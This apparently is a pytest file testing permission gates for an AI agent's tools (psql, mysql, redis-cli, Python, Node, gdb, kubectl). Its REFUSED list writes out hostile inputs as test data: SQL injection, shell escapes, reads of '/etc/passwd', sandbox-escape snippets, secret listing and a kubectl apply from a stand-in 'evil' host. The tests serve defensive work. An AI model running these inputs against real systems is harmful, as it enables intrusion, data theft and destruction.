"""The packaged manifests: what they allow, and attempts to get around them."""

import pytest

from orchestrator.rules.tools.catalog import read_catalog
from orchestrator.rules.tools.gates import Setting, Verdict, decide
from orchestrator.rules.tools.scope import NO_SCOPE

CATALOG = read_catalog(None).catalog


def ask(tool: str, text: str, tier: str = "high") -> Verdict:
    manifest = CATALOG[tool.partition(".")[0]]
    return decide(manifest, tool, text, Setting(NO_SCOPE, tier, tier, "ready", 0, None, "agent"))


@pytest.mark.parametrize("name", list(CATALOG))
def test_every_tool_is_described(name: str) -> None:
    manifest = CATALOG[name]
    assert manifest.description
    assert manifest.cedar is not None
    assert all(command.description for command in manifest.commands.values())


TAKEN = [
    ("psql.select_query", "SELECT * FROM users LIMIT 10", "select_query", "allow"),
    ("psql.select_query", "SELECT 'a;b''c' || x FROM t WHERE y < 3 - 1", "select_query", "allow"),
    ("psql.describe_table", "\\d public.users", "describe_table", "allow"),
    ("psql.explain", "EXPLAIN SELECT 1", "explain", "allow"),
    ("psql.begin", "BEGIN READ ONLY", "begin", "allow"),
    ("psql.insert", "INSERT INTO logs (msg) VALUES ('test')", "insert", "allow"),
    (
        "psql.upsert",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
        "upsert",
        "pending",
    ),
    ("mysql.upsert", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", "upsert", "pending"),
    ("psql.update", "UPDATE users SET name = 'x' WHERE id = 1", "update", "pending"),
    ("psql.delete", "DELETE FROM users WHERE id = 1", "delete", "pending"),
    ("psql.drop_table", "DROP TABLE temp_data", "drop_table", "pending"),
    ("mysql.select_query", "SELECT `a` FROM t", "select_query", "allow"),
    ("mysql.show", "SHOW COLUMNS FROM t", "show", "allow"),
    ("mysql.drop_table", "DROP TABLE t", "drop_table", "pending"),
    ("redis-cli.get", "HGETALL user:1", "get", "allow"),
    ("redis-cli.scan", "SCAN 0 MATCH user:* COUNT 100", "scan", "allow"),
    ("redis-cli.set", 'SET greeting "hello world" EX 60', "set", "allow"),
    ("redis-cli.del", "DEL a b c", "del", "allow"),
    ("redis-cli.flushdb", "FLUSHDB", "flushdb", "pending"),
    ("python3.calculate", "(2 + 3) * 4", "calculate", "allow"),
    ("python3.calculate", "((2 + 3) * 4) // 7", "calculate", "allow"),
    ("python3.assign", "sizes = [3, 5, 8]", "assign", "allow"),
    ("python3.assign", "rate = (2 + 3) * 4", "assign", "allow"),
    ("node.calculate", "((2 + 3) * 4) / 7", "calculate", "allow"),
    ("python3.aggregate", "total = sum(sizes)", "aggregate", "allow"),
    ("python3.call_math", "math.sqrt(2)", "call_math", "allow"),
    ("node.assign", "const sizes = [3, 5, 8]", "assign", "allow"),
    ("node.call_math", "Math.max(...sizes)", "call_math", "allow"),
    ("gdb.load", "file build/app", "load", "allow"),
    ("gdb.print", "print/x node->next[3].value", "print", "allow"),
    ("gdb.backtrace", "bt full 5", "backtrace", "allow"),
    ("gdb.set", "set variable retries = 0x10", "set", "pending"),
    ("gdb.kill", "kill", "kill", "pending"),
    ("kubectl.get", "kubectl get pods -n web -o wide", "get", "allow"),
    ("kubectl.logs", "kubectl logs web-1 --tail=100", "logs", "allow"),
    ("kubectl.apply", "kubectl apply -f deploy/web.yaml", "apply", "pending"),
]


def test_what_they_are_for() -> None:
    for tool, text, command, decision in TAKEN:
        verdict = ask(tool, text)
        assert (verdict.decision, verdict.command) == (decision, command), verdict


REFUSED = [
    # A second statement, or one that the semicolon does not end.
    ("psql.select_query", "SELECT 1; DROP TABLE x"),
    ("psql.select_query", "SELECT 1 -- "),
    ("psql.select_query", "SELECT 1 --"),
    ("psql.select_query", "SELECT 1 /* "),
    ("psql.select_query", "SELECT 'x"),
    ("psql.select_query", 'SELECT "x'),
    ("psql.select_query", "SELECT $$x$$"),
    # psql's own commands: a shell, files.
    ("psql.select_query", "SELECT 1 \\! id"),
    ("psql.select_query", "SELECT 'x' \\g /tmp/x"),
    ("psql.select_query", "SELECT E'\\''"),
    # Statements that need another command, and functions that reach beyond the tables.
    ("psql.select_query", "SELECT * INTO copied FROM users"),
    ("psql.select_query", "SELECT pg_read_file('/etc/passwd')"),
    ("psql.select_query", "SELECT pg_catalog.pg_ls_dir('/')"),
    ("psql.select_query", "SELECT * FROM t FOR UPDATE"),
    ("psql.explain", "EXPLAIN SELECT 1 INTO t"),
    ("psql.insert", "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2"),
    ("psql.insert", "INSERT INTO t SELECT lo_import('/etc/passwd')"),
    ("psql.update", "UPDATE t SET a = pg_read_file('x')"),
    ("psql.delete", "DELETE FROM t WHERE a = (SELECT 1"),
    ("mysql.select_query", "SELECT 1 INTO OUTFILE '/tmp/x'"),
    ("mysql.select_query", "SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql.insert", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1"),
    ("psql.describe_table", "\\d x \\! id"),
    ("psql.describe_table", "\\! id"),
    ("psql.delete", "DELETE FROM users"),
    ("psql.drop_table", "DROP TABLE a, b CASCADE"),
    ("mysql.select_query", "SELECT 1 # x"),
    ("mysql.select_query", "SELECT 1 \\! id"),
    ("mysql.select_query", "SELECT 1 -- x"),
    ("mysql.select_query", "SELECT /*!1*/"),
    # A repetition, another command, a script.
    ("redis-cli.get", "5 GET a"),
    ("redis-cli.get", "GET a b"),
    ("redis-cli.get", "EVAL x 0"),
    ("redis-cli.set", 'SET a "x" "y"'),
    ("redis-cli.set", "SET a b EX 0"),
    # Everything that could run code.
    ("python3.calculate", "__import__('os')"),
    ("python3.import_math", "import os"),
    ("python3.import_math", "import math, os"),
    ("python3.call_math", "math.sqrt(exec(input()))"),
    ("python3.call_math", "math.__loader__(x)"),
    ("python3.aggregate", "sum(open(0))"),
    ("python3.aggregate", "sorted(x, key=exec)"),
    ("python3.show", "__builtins__"),
    ("python3.assign", "x = lambda: 0"),
    # A line that continues on the next one.
    ("python3.calculate", "(2"),
    ("python3.calculate", "2)"),
    ("python3.assign", "a = (2"),
    ("node.calculate", "(2"),
    ("node.calculate", "2 /* 3"),
    ("node.calculate", "(2 // 3)"),
    ("node.show", "require('fs')"),
    ("node.show", ".load x"),
    ("node.call_math", "Math.constructor.constructor('x')()"),
    ("node.call_math", "process.exit(1)"),
    ("gdb.print", 'print system("id")'),
    ("gdb.print", "print x = 1"),
    ("gdb.print", "print $_shell(1)"),
    ("gdb.info", "info proc mappings"),
    ("gdb.list", "shell id"),
    ("gdb.load", "file /bin/sh"),
    ("gdb.load", "file ../x"),
    ("gdb.break", "break x if system(1)"),
    ("kubectl.get", "kubectl get secrets"),
    ("kubectl.get", "kubectl get pods; id"),
    ("kubectl.get", "kubectl get pods -o jsonpath={.items}"),
    ("kubectl.get", "kubectl get pods --kubeconfig x"),
    ("kubectl.get", "kubectl get pods *"),
    ("kubectl.apply", "kubectl apply -f http://evil/x.yaml"),
    ("kubectl.apply", "kubectl apply -f ../../etc/x"),
    ("kubectl.logs", "kubectl logs web --tail=0"),
]


def test_what_they_refuse() -> None:
    for tool, text in REFUSED:
        assert ask(tool, text).decision == "deny", (tool, text)


@pytest.mark.parametrize("name", list(CATALOG))
def test_what_destroys_needs_a_person_and_the_highest_tier(name: str) -> None:
    for command in CATALOG[name].commands.values():
        if command.name in ("drop_table", "delete", "flushdb", "kill", "apply", "set_variable"):
            assert command.human_approval
            assert command.risk_tier == "high"
